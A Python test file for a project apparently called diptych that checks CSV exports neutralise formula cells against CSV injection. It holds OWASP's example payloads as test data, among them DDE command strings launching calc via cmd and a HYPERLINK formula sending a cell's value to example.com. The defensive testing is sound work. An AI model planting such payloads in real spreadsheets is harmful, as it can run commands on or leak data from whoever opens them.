"""CSV cells a spreadsheet would run as a formula are neutralised (OWASP's CSV injection advice):
in run exports and the labels template; JSON lines and the store keep the raw text; numbers stay
numbers; a filled-in template imports to the very names it was written with."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from diptych.core.engine import run_probe
from diptych.core.errors import RefusalError
from diptych.core.metrics.sts import labels_csv
from diptych.core.plugins import get_model, get_probe
from diptych.core.spreadsheet_cells import (
    FORMULA_TRIGGERS,
    neutralise_cell,
    restore_cell,
)
from diptych.core.store import Store
from diptych.core.workspace import Workspace
from diptych.core.workspace.export import write_rows
from diptych.testing import ScriptedImageGenerator

#: What OWASP lists as attack payloads, and the cell each becomes.
PAYLOADS = {
    "=HYPERLINK(\"http://example.com/?\"&A1,\"open\")": "'=HYPERLINK(\"http://example.com/?\"&A1,\"open\")",
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0": "'@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "-inf": "'-inf",
}  # fmt: skip


@pytest.mark.parametrize("text", sorted(PAYLOADS))
def test_a_formula_gets_a_leading_quote(text: str) -> None:
    assert neutralise_cell(text) == PAYLOADS[text]
    assert restore_cell(PAYLOADS[text]) == text


@pytest.mark.parametrize(
    "value", [-0.5, 3, 0.0, None, True, "", "-0.5", "+3", "-12", "1e-5", "-1.5E+3", ".5", "nurse"]
)
def test_numbers_and_plain_text_stay_as_they_are(value: Any) -> None:
    assert neutralise_cell(value) == value


def test_a_text_that_looks_neutralised_is_quoted_too_so_restoring_is_exact() -> None:
    assert neutralise_cell("'=x") == "''=x" and restore_cell("''=x") == "'=x"
    assert neutralise_cell("''") == "'''" and restore_cell("'''") == "''"
    assert neutralise_cell("'a") == "'a" and restore_cell("'a") == "'a"
    assert neutralise_cell("'") == "'" and restore_cell("'") == "'"


@settings(max_examples=400, derandomize=True, database=None, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@'\t\r0123456789.eE ax")), max_size=8))
def test_restoring_undoes_neutralising_and_no_cell_starts_a_formula(text: str) -> None:
    cell = neutralise_cell(text)
    assert restore_cell(cell) == text
    if cell and cell[0] in FORMULA_TRIGGERS:
        float(cell)  # only a number may start so


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_export_neutralises_text_cells_and_keeps_numbers() -> None:
    row = {
        "trial": 0,
        "meta": {"shift": -0.5, "name": "=1+2", "count": -3},
        "payload": {"prompt": "=1+2"},
        "error": "@SUM(1)",
        "labels": {"left": {"human:a": {"label": "-x"}}},
        "notes": {"left": {"human:a": "+cmd"}},
    }
    out = io.StringIO()
    write_rows([row], "csv", out)
    (cells,) = read_csv(out.getvalue())
    assert cells["meta.shift"] == "-0.5" and cells["meta.count"] == "-3"
    assert cells["meta.name"] == "'=1+2" and cells["error"] == "'@SUM(1)"
    assert cells["label.left.human:a"] == "'-x" and cells["note.left.human:a"] == "'+cmd"
    # A JSON column starts with a brace; the text inside it is JSON's, left as it is.
    assert json.loads(cells["payload"]) == {"prompt": "=1+2"}
    jsonl = io.StringIO()
    write_rows([row], "jsonl", jsonl)
    assert json.loads(jsonl.getvalue())["error"] == "@SUM(1)"


def test_a_run_export_neutralises_what_the_model_said(scripted: None, tmp_path: Path) -> None:
    model = get_model("scripted-chat")
    model.enqueue(RefusalError('=HYPERLINK("http://example.com")'))  # type: ignore[attr-defined]
    probe = get_probe("scripted", {"n": 2, "capability": "chat"})
    with Workspace.open(tmp_path / "ws") as ws:
        run = ws.runs.run_sync(probe, [model])
        ws.runs.export(run.id, "csv", tmp_path / "run.csv")
        ws.runs.export(run.id, "jsonl", tmp_path / "run.jsonl")
        stored = {r.status: r.error for r in ws.runs.view(run.id).results.values()}
    cells = read_csv((tmp_path / "run.csv").read_text(encoding="utf-8"))
    assert [c["error"] for c in cells] == ['\'=HYPERLINK("http://example.com")', ""]
    assert [c["trial"] for c in cells] == ["0", "1"]
    # The store and the JSON export keep the raw text.
    assert stored["refused"] == '=HYPERLINK("http://example.com")'
    rows = [json.loads(line) for line in (tmp_path / "run.jsonl").read_text().splitlines()]
    assert rows[0]["error"] == '=HYPERLINK("http://example.com")'


def test_a_labels_template_with_formula_names_round_trips(store: Store, tmp_path: Path) -> None:
    identities = {"masculine": ["=cmd|' /C calc'!A0"], "feminine": ["-editor"]}
    run = run_probe(
        store,
        "pst",
        [ScriptedImageGenerator()],
        probe_params={**identities, "new_identities": True, "aspects": ["occupation"]},
    )
    with Workspace.open(store.path) as ws:
        template = tmp_path / "template.csv"
        ws.labels.template(run.id, template)
        rows = read_csv(template.read_text(encoding="utf-8"))
        assert {r["identity"] for r in rows} == {"'=cmd|' /C calc'!A0", "'-editor"}
        assert all(not r["image"].startswith(tuple(FORMULA_TRIGGERS)) for r in rows)
        for r in rows:
            r["label"] = "masculine"
        filled = tmp_path / "filled.csv"
        with filled.open("w", newline="", encoding="utf-8") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
        report = ws.labels.import_csv(run.id, filled)
    assert report.problems == [] and len(report.matched) == len(rows) > 0
    # Both readings of a labels file (by columns, and row by row for its errors) agree.
    by_rows = {r.identity for r in labels_csv._read_rows(filled)}
    assert by_rows == {r.identity for r in labels_csv.read_labels_csv(filled)}
    assert by_rows == {"=cmd|' /C calc'!A0", "-editor"}
    # The names stored are the raw ones, without the protective quote.
    subjects = {s["meta"]["identity"] for s in store.run_subjects(run.id)}
    assert subjects == {"=cmd|' /C calc'!A0", "-editor"}
